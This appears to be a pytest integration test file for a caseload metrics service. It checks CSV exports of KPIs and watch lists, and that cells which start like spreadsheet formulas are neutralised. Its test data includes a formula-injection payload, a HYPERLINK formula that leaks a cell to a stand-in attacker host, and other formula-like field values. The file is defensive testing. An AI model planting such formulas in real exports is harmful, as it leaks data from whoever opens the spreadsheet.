"""The KPIs and the watch lists as CSV files (``Accept: text/csv``): the same answers, one row each, and
no cell a spreadsheet would run as a formula (hardening issue: CSV exports neutralise formula cells)."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import Awaitable, Callable
from datetime import date

import pytest
import pytest_asyncio

from steadfast_caseload.events import AllocationStarted, EpisodeRecorded
from steadfast_metrics.bootstrap import definition
from steadfast_shared.codes import EpisodeType
from steadfast_shared.testing import ServiceClient
from steadfast_staff.events import WorkerHired
from tests.metrics.conftest import allocation, episode, event, terms, worker
from tests.metrics.test_kpis_api import AS_OF, READ, get_kpis, seed, worked_example

pytestmark = pytest.mark.integration

LINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Open")'


@pytest_asyncio.fixture(loop_scope="session")
async def metrics(start_service: Callable[..., Awaitable[ServiceClient]]) -> ServiceClient:
    return await start_service(definition, consumers_enabled=False, snapshot_interval_days=0)


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


async def test_the_kpis_as_csv_are_the_json_answer_one_row_per_kpi(metrics: ServiceClient) -> None:
    await seed(metrics, *worked_example())
    report = await get_kpis(metrics)
    answer = await metrics.http.get(
        f"/v1/kpis?as_of={AS_OF}", headers={**metrics.auth(*READ), "Accept": "text/csv"}
    )
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8"
    assert answer.headers["content-disposition"] == f'attachment; filename="kpis-{AS_OF}-slough.csv"'
    rows = rows_of(answer.text)
    assert [r["kpi"] for r in rows] == [k["id"] for k in report["kpis"]]
    permanent = next(r for r in rows if r["kpi"] == "permanent_rate")
    assert permanent["as_of"] == "2015-03-02"
    assert permanent["team"] == ""
    assert float(permanent["value"]) == pytest.approx(77.78, abs=0.01)
    assert (permanent["numerator"], permanent["denominator"]) == ("3.5", "4.5")
    assert (permanent["target_value"], permanent["target_date"]) == ("80.0", "2017-03-31")
    assert permanent["status"] == "near"


async def test_json_stays_the_default(metrics: ServiceClient) -> None:
    for accept in ("*/*", "application/json", "application/json, text/csv;q=0.5", ""):
        answer = await metrics.http.get(
            f"/v1/kpis?as_of={AS_OF}", headers={**metrics.auth(*READ), "Accept": accept}
        )
        assert answer.headers["content-type"] == "application/json", accept
    preferred = await metrics.http.get(
        f"/v1/kpis?as_of={AS_OF}",
        headers={**metrics.auth(*READ), "Accept": "application/json;q=0.5, text/csv"},
    )
    assert preferred.headers["content-type"].startswith("text/csv")


async def test_a_watch_list_as_csv_neutralises_formula_names_and_references(metrics: ServiceClient) -> None:
    # A worker named with a formula, over their limit (18 children, limit 16), in a team named with one;
    # one of the children has a formula for its reference and is never visited (overdue).
    worker_id = uuid.uuid4()
    start = date(2014, 1, 6)
    hired = worker(worker_id, external_id="+44 20 7946 0000", history=[terms(start, team="@SUM(1+1)")])
    hired = hired.model_copy(update={"display_name": LINK})
    events = [event(WorkerHired, hired)]
    for n in range(18):
        child = uuid.uuid5(worker_id, str(n))
        recorded = episode(child, EpisodeType.cp, date(2015, 1, 5))
        started = allocation(child, worker_id, date(2015, 1, 5))
        if n == 0:
            recorded = recorded.model_copy(update={"child_external_id": "-2+3"})
            started = started.model_copy(update={"child_external_id": "-2+3"})
        events += [event(EpisodeRecorded, recorded), event(AllocationStarted, started)]
    await seed(metrics, *events)

    over = await metrics.http.get(
        f"/v1/watch-lists/workers-over-caseload-limit?as_of={AS_OF}",
        headers={**metrics.auth(*READ), "Accept": "text/csv"},
    )
    assert over.status_code == 200, over.text
    [row] = rows_of(over.text)
    assert row["display_name"] == "'" + LINK
    assert row["team"] == "'@SUM(1+1)"
    assert row["external_id"] == "'+44 20 7946 0000"
    assert (row["caseload"], row["limit"], row["over_by"]) == ("18", "16", "2")
    assert "\r\n" in over.text, "RFC 4180 line ends"

    overdue = await metrics.http.get(
        f"/v1/watch-lists/children-with-overdue-visits?as_of={AS_OF}&limit=5",
        headers={**metrics.auth(*READ), "Accept": "text/csv"},
    )
    assert overdue.status_code == 200, overdue.text
    references = [r["child_external_id"] for r in rows_of(overdue.text)]
    assert len(references) == 5
    assert all(not r.startswith(("=", "+", "-", "@")) for r in references), references
    assert 'rel="next"' in overdue.headers["link"]
    everything = await metrics.http.get(
        f"/v1/watch-lists/children-with-overdue-visits?as_of={AS_OF}&limit=50",
        headers={**metrics.auth(*READ), "Accept": "text/csv"},
    )
    assert "'-2+3" in [r["child_external_id"] for r in rows_of(everything.text)]
    assert "link" not in everything.headers

    as_json = await metrics.http.get(
        f"/v1/watch-lists/workers-over-caseload-limit?as_of={AS_OF}", headers=metrics.auth(*READ)
    )
    assert as_json.json()["items"][0]["display_name"] == LINK, "the data itself is kept as it was sent"
